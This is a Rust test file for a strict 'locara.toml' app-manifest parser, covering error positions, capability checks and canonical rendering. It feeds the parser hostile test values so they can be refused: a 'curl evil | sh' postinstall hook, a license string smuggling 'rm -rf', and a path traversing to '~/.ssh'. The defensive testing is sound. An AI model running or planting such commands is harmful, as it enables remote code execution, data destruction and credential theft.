//! `locara.toml`: strict parsing, error positions and canonical rendering (DESIGN §4, ADR 0014).

use locara_core::capabilities::{Access, CapabilityError, Network};
use locara_core::manifest::{Manifest, ManifestError, ProblemKind};

const DIGEST: &str = "sha256:0f3a5c7e9b1d2f4a6c8e0b2d4f6a8c0e2b4d6f8a0c2e4b6d8f0a2c4e6b8d0f2a";

/// The DESIGN §4 example, with a real digest.
fn example() -> String {
    format!(
        r#"[app]
name = "acme/notes-search"       # publisher/app
version = "1.4.2"                # semver 2.0.0
description = "Search your notes with a local model"
license = "MIT"
source = "https://git.example.com/acme/notes-search"   # the repository the builder fetches

[build]
command = ["cargo", "build", "--release", "--offline", "--locked"]
outputs = {{ "bin/notes-search" = "target/release/notes-search" }}
entry = "bin/notes-search"

[capabilities]
files   = [ {{ path = "~/Notes", access = "read" }} ]     # access: read | read-write
network = []                                            # [] = none; ["host:port", ...]; ["*"] = any
tools   = []                                            # host executables it may run, e.g. "/usr/bin/git"
models  = ["minilm"]                                    # names from [[models]], read-only

[[models]]
name = "minilm"
digest = "{DIGEST}"
size = 90_000_000
urls = ["https://models.example.com/minilm.safetensors"]  # mirrors; the registry may also host the blob
"#
    )
}

fn errors(text: &str) -> ManifestError {
    Manifest::parse(text).expect_err("expected the manifest to be refused")
}

/// Replaces one exact piece of the example, failing if it is not there.
fn with(from: &str, to: &str) -> String {
    let text = example();
    assert!(text.contains(from), "example has no {from:?}");
    text.replacen(from, to, 1)
}

/// Asserts exactly one problem at the key and returns it.
fn single_problem(text: &str, key: &str) -> locara_core::manifest::Problem {
    let error = errors(text);
    assert_eq!(error.problems.len(), 1, "{error}");
    let problem = error.problems[0].clone();
    assert_eq!(problem.key, key, "{error}");
    problem
}

#[test]
fn parses_the_design_example() {
    let manifest = Manifest::parse(&example()).unwrap();
    assert_eq!(manifest.app().name().to_string(), "acme/notes-search");
    assert_eq!(manifest.app().version().to_string(), "1.4.2");
    assert_eq!(manifest.app().license(), "MIT");
    assert_eq!(
        manifest.app().source().as_str(),
        "https://git.example.com/acme/notes-search"
    );
    assert_eq!(manifest.build().command()[0], "cargo");
    assert_eq!(manifest.build().entry().as_str(), "bin/notes-search");
    assert_eq!(manifest.build().outputs().len(), 1);
    let capabilities = manifest.capabilities();
    assert_eq!(capabilities.files[0].access, Access::Read);
    assert_eq!(capabilities.files[0].path.to_string(), "~/Notes");
    assert_eq!(capabilities.network, Network::None);
    assert_eq!(
        capabilities.models.iter().next().unwrap().as_str(),
        "minilm"
    );
    let model = &manifest.models()[0];
    assert_eq!(model.size(), 90_000_000);
    assert_eq!(model.digest().to_string(), DIGEST);
    assert_eq!(model.urls().len(), 1);
}

#[test]
fn rendering_round_trips() {
    let manifest = Manifest::parse(&example()).unwrap();
    let rendered = manifest.to_toml_string();
    assert_eq!(Manifest::parse(&rendered).unwrap(), manifest);
    // The rendering is canonical: rendering it again gives the same bytes.
    assert_eq!(
        Manifest::parse(&rendered).unwrap().to_toml_string(),
        rendered
    );
}

#[test]
fn rendering_round_trips_awkward_strings_and_normalised_values() {
    let text = with(
        "description = \"Search your notes with a local model\"",
        "description = 'Quotes \" and \\ and ünïcödé'",
    );
    let text = text.replace(
        "network = []",
        "network = [\"API.example.com:443\", \"[::1]:8080\"]",
    );
    let text = text.replace("path = \"~/Notes\"", "path = \"~/Notes/./x//\"");
    let manifest = Manifest::parse(&text).unwrap();
    assert_eq!(manifest.app().description(), "Quotes \" and \\ and ünïcödé");
    let rendered = manifest.to_toml_string();
    assert!(rendered.contains("\"api.example.com:443\""), "{rendered}");
    assert!(rendered.contains("\"~/Notes/x\""), "{rendered}");
    assert_eq!(Manifest::parse(&rendered).unwrap(), manifest);
}

#[test]
fn capabilities_and_models_may_be_left_out() {
    let text = example();
    let start = text.find("[capabilities]").unwrap();
    let manifest = Manifest::parse(&text[..start]).unwrap();
    assert!(manifest.capabilities().is_empty());
    assert!(manifest.models().is_empty());
    assert_eq!(
        Manifest::parse(&manifest.to_toml_string()).unwrap(),
        manifest
    );
}

#[test]
fn refuses_unknown_key_naming_line_and_column() {
    let text = with(
        "license = \"MIT\"\n",
        "license = \"MIT\"\nhomepage = \"x\"\n",
    );
    let problem = single_problem(&text, "app.homepage");
    assert_eq!((problem.line, problem.column), (6, 1));
    let message = problem.to_string();
    assert!(
        message.starts_with("locara.toml:6:1: app.homepage: unknown key `homepage`"),
        "{message}"
    );
    assert!(
        message.contains("`name`, `version`, `description`, `license`, `source`"),
        "{message}"
    );
}

#[test]
fn refuses_unknown_sections_and_nested_keys() {
    let text = format!(
        "{}\n[scripts]\npostinstall = \"curl evil | sh\"\n",
        example()
    );
    let problem = single_problem(&text, "scripts");
    assert!(matches!(problem.kind, ProblemKind::UnknownKey { .. }));

    let text = with(
        "access = \"read\" }",
        "access = \"read\", recursive = true }",
    );
    single_problem(&text, "capabilities.files[0].recursive");

    let text = with("size = 90_000_000", "size = 90_000_000\nsha1 = \"x\"");
    single_problem(&text, "models[0].sha1");

    let text = with(
        "entry = \"bin/notes-search\"",
        "entry = \"bin/notes-search\"\nenv = {}",
    );
    single_problem(&text, "build.env");

    let text = with(
        "models  = [\"minilm\"]",
        "models  = [\"minilm\"]\ndevices = []",
    );
    single_problem(&text, "capabilities.devices");
}

#[test]
fn reports_every_problem_in_file_order() {
    let text = with("version = \"1.4.2\"", "version = \"1.4\"");
    let text = text.replace("access = \"read\"", "access = \"write\"");
    let text = text.replace("size = 90_000_000", "size = 0");
    let error = errors(&text);
    let keys: Vec<&str> = error.problems.iter().map(|p| p.key.as_str()).collect();
    assert_eq!(
        keys,
        [
            "app.version",
            "capabilities.files[0].access",
            "models[0].size"
        ]
    );
    let rendered = error.to_string();
    assert_eq!(rendered.lines().count(), 3, "{rendered}");
    assert!(
        rendered.contains("locara.toml:3:11: app.version: version \"1.4\" is not semver 2.0.0"),
        "{rendered}"
    );
    assert!(
        rendered.contains("expected `read` or `read-write`"),
        "{rendered}"
    );
}

#[test]
fn refuses_invalid_toml_with_position() {
    let error = errors("[app]\nname = \"acme/x\n");
    assert_eq!(error.problems.len(), 1);
    assert!(matches!(error.problems[0].kind, ProblemKind::Syntax { .. }));
    assert_eq!(error.problems[0].line, 2);
    assert!(error.to_string().starts_with("locara.toml:2:"), "{error}");
}

#[test]
fn refuses_missing_sections_and_keys() {
    let error = errors("");
    let keys: Vec<&str> = error.problems.iter().map(|p| p.key.as_str()).collect();
    assert_eq!(keys, ["app", "build"]);

    let problem = single_problem(&with("license = \"MIT\"\n", ""), "app.license");
    assert!(matches!(
        problem.kind,
        ProblemKind::MissingKey { key: "license", .. }
    ));
    single_problem(&with("entry = \"bin/notes-search\"\n", ""), "build.entry");
    single_problem(
        &with(
            "command = [\"cargo\", \"build\", \"--release\", \"--offline\", \"--locked\"]\n",
            "",
        ),
        "build.command",
    );
    single_problem(&with("size = 90_000_000\n", ""), "models[0].size");
    single_problem(
        &with("access = \"read\" ", ""),
        "capabilities.files[0].access",
    );
}

#[test]
fn refuses_wrong_types_saying_what_was_expected() {
    let problem = single_problem(&with("version = \"1.4.2\"", "version = 1.4"), "app.version");
    assert_eq!(
        problem.kind,
        ProblemKind::WrongType {
            expected: "a string",
            found: "a float"
        }
    );
    single_problem(
        &with("network = []", "network = \"*\""),
        "capabilities.network",
    );
    single_problem(
        &with("size = 90_000_000", "size = \"90MB\""),
        "models[0].size",
    );
    single_problem(
        &with("tools   = []", "tools   = [1]"),
        "capabilities.tools[0]",
    );
}

#[test]
fn refuses_bad_app_name() {
    let problem = single_problem(
        &with("\"acme/notes-search\"  ", "\"Acme/notes-search\"  "),
        "app.name",
    );
    assert!(matches!(problem.kind, ProblemKind::Name(_)));
    assert_eq!((problem.line, problem.column), (2, 8));
}

#[test]
fn refuses_bad_version() {
    for bad in ["v1.4.2", "1.4", "01.4.2", ""] {
        let text = with("version = \"1.4.2\"", &format!("version = \"{bad}\""));
        let problem = single_problem(&text, "app.version");
        assert!(matches!(problem.kind, ProblemKind::Version(_)), "{bad}");
    }
}

#[test]
fn refuses_source_that_is_not_plain_https() {
    for bad in [
        "http://git.example.com/acme/notes-search",
        "git@git.example.com:acme/notes-search.git",
        "https://user:token@git.example.com/acme/notes-search",
        "https://git.example.com/acme/notes-search#main",
        "https://git.example.com/acme notes",
        "https://",
        "https://git.example.com:99999/x",
    ] {
        let text = with(
            "source = \"https://git.example.com/acme/notes-search\"",
            &format!("source = \"{bad}\""),
        );
        let problem = single_problem(&text, "app.source");
        assert!(matches!(problem.kind, ProblemKind::Url(_)), "{bad}");
    }
}

#[test]
fn refuses_empty_or_multi_line_description_and_odd_license() {
    single_problem(
        &with("\"Search your notes with a local model\"", "\"\""),
        "app.description",
    );
    single_problem(
        &with(
            "\"Search your notes with a local model\"",
            "\"two\\nlines\"",
        ),
        "app.description",
    );
    single_problem(
        &with(
            "description = \"Search your notes with a local model\"",
            &format!("description = \"{}\"", "x".repeat(301)),
        ),
        "app.description",
    );
    single_problem(
        &with("license = \"MIT\"", "license = \"MIT; rm -rf\""),
        "app.license",
    );
    assert!(
        Manifest::parse(&with(
            "license = \"MIT\"",
            "license = \"(Apache-2.0 OR MIT)\""
        ))
        .is_ok()
    );
}

#[test]
fn refuses_empty_build_command() {
    single_problem(
        &with(
            "[\"cargo\", \"build\", \"--release\", \"--offline\", \"--locked\"]",
            "[]",
        ),
        "build.command",
    );
    single_problem(
        &with("\"cargo\", \"build\"", "\"\", \"build\""),
        "build.command[0]",
    );
}

#[test]
fn refuses_unsafe_output_paths() {
    for bad in [
        "/bin/x", "../x", "bin/../x", "bin//x", "bin/", "./bin/x", "",
    ] {
        let text = with("\"bin/notes-search\" = ", &format!("\"{bad}\" = "));
        let error = errors(&text);
        assert!(
            error
                .problems
                .iter()
                .any(|p| p.key.starts_with("build.outputs")
                    && matches!(p.kind, ProblemKind::Path(_))),
            "{bad}: {error}"
        );
    }
    for bad in ["/abs/target", "../outside", "target/../../x"] {
        let text = with("\"target/release/notes-search\"", &format!("\"{bad}\""));
        let problem = single_problem(&text, "build.outputs.\"bin/notes-search\"");
        assert!(matches!(problem.kind, ProblemKind::Path(_)), "{bad}");
    }
}

#[test]
fn refuses_output_named_like_the_manifest_or_nested_in_another() {
    let text = with(
        "\"bin/notes-search\" = \"target/release/notes-search\"",
        "\"bin/notes-search\" = \"a\", \"locara.toml\" = \"b\"",
    );
    single_problem(&text, "build.outputs.\"locara.toml\"");
    let text = with(
        "\"bin/notes-search\" = \"target/release/notes-search\"",
        "\"bin/notes-search\" = \"a\", \"bin\" = \"b\"",
    );
    let problem = single_problem(&text, "build.outputs.bin");
    assert!(
        problem
            .to_string()
            .contains("also a directory of output `bin/notes-search`"),
        "{problem}"
    );
}

#[test]
fn refuses_entry_that_is_not_an_output() {
    let problem = single_problem(
        &with("entry = \"bin/notes-search\"", "entry = \"bin/other\""),
        "build.entry",
    );
    assert_eq!(
        problem.kind,
        ProblemKind::EntryNotAnOutput {
            found: "bin/other".to_owned(),
            expected: vec!["bin/notes-search".to_owned()]
        }
    );
    assert!(
        problem
            .to_string()
            .contains("expected one of `bin/notes-search`")
    );
}

#[test]
fn refuses_bad_capability_paths() {
    for bad in ["../Notes", "Notes", "~/Notes/../.ssh", "~root/x", ""] {
        let text = with("path = \"~/Notes\"", &format!("path = \"{bad}\""));
        let problem = single_problem(&text, "capabilities.files[0].path");
        assert!(matches!(problem.kind, ProblemKind::Capability(_)), "{bad}");
    }
}

#[test]
fn refuses_duplicate_file_paths() {
    let text = with(
        "{ path = \"~/Notes\", access = \"read\" }",
        "{ path = \"~/Notes\", access = \"read\" }, { path = \"~/Notes/\", access = \"read-write\" }",
    );
    let problem = single_problem(&text, "capabilities.files[1].path");
    assert!(matches!(
        problem.kind,
        ProblemKind::Capability(CapabilityError::DuplicatePath { .. })
    ));
}

#[test]
fn refuses_bad_network_entries() {
    let problem = single_problem(
        &with("network = []", "network = [\"example.com\"]"),
        "capabilities.network[0]",
    );
    assert!(problem.to_string().contains("has no port"), "{problem}");
    single_problem(
        &with("network = []", "network = [\"example.com:0\"]"),
        "capabilities.network[0]",
    );
    single_problem(
        &with("network = []", "network = [\"*\", \"example.com:443\"]"),
        "capabilities.network",
    );
    single_problem(
        &with(
            "network = []",
            "network = [\"a.example:443\", \"A.example:443\"]",
        ),
        "capabilities.network[1]",
    );
    let manifest = Manifest::parse(&with("network = []", "network = [\"*\"]")).unwrap();
    assert_eq!(manifest.capabilities().network, Network::Any);
}

#[test]
fn refuses_relative_or_duplicate_tools() {
    single_problem(
        &with("tools   = []", "tools   = [\"git\"]"),
        "capabilities.tools[0]",
    );
    single_problem(
        &with(
            "tools   = []",
            "tools   = [\"/usr/bin/git\", \"/usr/bin//git\"]",
        ),
        "capabilities.tools[1]",
    );
}

#[test]
fn refuses_capability_model_not_declared() {
    let problem = single_problem(
        &with(
            "models  = [\"minilm\"]",
            "models  = [\"minilm\", \"llama\"]",
        ),
        "capabilities.models[1]",
    );
    assert_eq!(
        problem.kind,
        ProblemKind::UnknownModel {
            found: "llama".to_owned(),
            declared: vec!["minilm".to_owned()]
        }
    );
}

#[test]
fn refuses_bad_model_entries() {
    let problem = single_problem(&with(DIGEST, "sha256:abc"), "models[0].digest");
    assert!(matches!(problem.kind, ProblemKind::Digest(_)));
    single_problem(
        &with(DIGEST, &DIGEST.replace("sha256", "md5")),
        "models[0].digest",
    );
    single_problem(&with("size = 90_000_000", "size = -5"), "models[0].size");
    single_problem(&with("size = 90_000_000", "size = 0"), "models[0].size");
    single_problem(&with("size = 90_000_000", "size = 9.5"), "models[0].size");
    single_problem(
        &with(
            "\"https://models.example.com/minilm.safetensors\"",
            "\"http://models.example.com/m\"",
        ),
        "models[0].urls[0]",
    );
    // A bad model name is reported where it is written, never as "not declared" at its references.
    let text = example().replace("\"minilm\"", "\"MiniLM\"");
    let error = errors(&text);
    let keys: Vec<&str> = error.problems.iter().map(|p| p.key.as_str()).collect();
    assert_eq!(
        keys,
        ["capabilities.models[0]", "models[0].name"],
        "{error}"
    );
    assert!(
        !error
            .problems
            .iter()
            .any(|p| matches!(p.kind, ProblemKind::UnknownModel { .. }))
    );
}

#[test]
fn refuses_duplicate_model_names() {
    let extra = format!("\n[[models]]\nname = \"minilm\"\ndigest = \"{DIGEST}\"\nsize = 1\n");
    let problem = single_problem(&format!("{}{extra}", example()), "models[1].name");
    assert!(problem.to_string().contains("declared twice"), "{problem}");
}

#[test]
fn model_urls_may_be_empty_when_the_registry_hosts_the_blob() {
    let text = with(
        "urls = [\"https://models.example.com/minilm.safetensors\"]",
        "urls = []",
    );
    assert!(
        Manifest::parse(&text).unwrap().models()[0]
            .urls()
            .is_empty()
    );
}

#[test]
fn columns_count_characters_not_bytes() {
    let text = with(
        "description = \"Search your notes with a local model\"",
        "description = \"ünï\"\nbogus = 1",
    );
    let problem = single_problem(&text, "app.bogus");
    assert_eq!((problem.line, problem.column), (5, 1));
    let text = with(
        "name = \"acme/notes-search\"       # publisher/app",
        "name = \"acme/notes-search\"; x = 1",
    );
    let error = errors(&text);
    assert!(matches!(error.problems[0].kind, ProblemKind::Syntax { .. }));
}

#[test]
fn refuses_empty_outputs() {
    let problem = single_problem(
        &with(
            "{ \"bin/notes-search\" = \"target/release/notes-search\" }",
            "{}",
        ),
        "build.outputs",
    );
    assert!(problem.to_string().contains("is empty"), "{problem}");
}

#[test]
fn refuses_nul_in_command() {
    single_problem(
        &with("\"--locked\"", "\"--lo\\u0000cked\""),
        "build.command[4]",
    );
}

#[test]
fn refuses_model_listed_twice_in_capabilities() {
    let problem = single_problem(
        &with(
            "models  = [\"minilm\"]",
            "models  = [\"minilm\", \"minilm\"]",
        ),
        "capabilities.models[1]",
    );
    assert!(matches!(
        problem.kind,
        ProblemKind::Capability(CapabilityError::DuplicateModel { .. })
    ));
}

#[test]
fn refuses_models_written_as_a_single_table() {
    let text = example().replace("[[models]]", "[models]");
    let problem = single_problem(&text, "models");
    assert!(matches!(
        problem.kind,
        ProblemKind::WrongType {
            expected: "an array of [[models]] tables",
            found: "a table"
        }
    ));
}

#[test]
fn refuses_sections_that_are_not_tables() {
    let text = format!(
        "app = \"acme/notes\"\n{}",
        &example()[example().find("[build]").unwrap()..]
    );
    let problem = single_problem(&text, "app");
    assert!(matches!(
        problem.kind,
        ProblemKind::WrongType {
            expected: "a table",
            ..
        }
    ));
}

#[test]
fn fuzz_seeds_parse_as_their_names_say() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fuzz/corpus/manifest");
    let mut seen = 0;
    for entry in std::fs::read_dir(&dir).unwrap() {
        let path = entry.unwrap().path();
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        if !name.starts_with("seed-") {
            continue;
        }
        seen += 1;
        let text = std::fs::read_to_string(&path).unwrap();
        let result = Manifest::parse(&text);
        if name.starts_with("seed-invalid") || name.starts_with("seed-wrong") {
            assert!(result.is_err(), "{name} parsed");
        } else {
            let manifest = result.unwrap_or_else(|error| panic!("{name}: {error}"));
            assert_eq!(
                Manifest::parse(&manifest.to_toml_string()).unwrap(),
                manifest,
                "{name}"
            );
        }
    }
    assert!(seen >= 5, "found only {seen} seeds in {}", dir.display());
}

#[test]
fn documented_error_example_is_exact() {
    let error = errors(&with("access = \"read\"", "access = \"write\""));
    assert_eq!(
        error.to_string(),
        "locara.toml:14:42: capabilities.files[0].access: access \"write\" is not known; expected `read` or `read-write`"
    );
}

#[test]
fn refuses_control_characters_in_output_paths() {
    let text = with(
        "\"target/release/notes-search\"",
        "\"target/release/notes\\nsearch\"",
    );
    let problem = single_problem(&text, "build.outputs.\"bin/notes-search\"");
    assert!(matches!(problem.kind, ProblemKind::Path(_)));
}

#[test]
fn rendering_escapes_quotes_newlines_and_control_characters() {
    let text = with(
        "\"--locked\"",
        "\"--locked\", \"line one\\nline \\\"two\\\"\\t\\u007f\\\\\"",
    );
    let manifest = Manifest::parse(&text).unwrap();
    assert_eq!(
        manifest.build().command()[5],
        "line one\nline \"two\"\t\u{7f}\\"
    );
    let rendered = manifest.to_toml_string();
    assert!(
        rendered.contains(r#""line one\nline \"two\"\t\u007F\\""#),
        "{rendered}"
    );
    assert_eq!(Manifest::parse(&rendered).unwrap(), manifest);
}
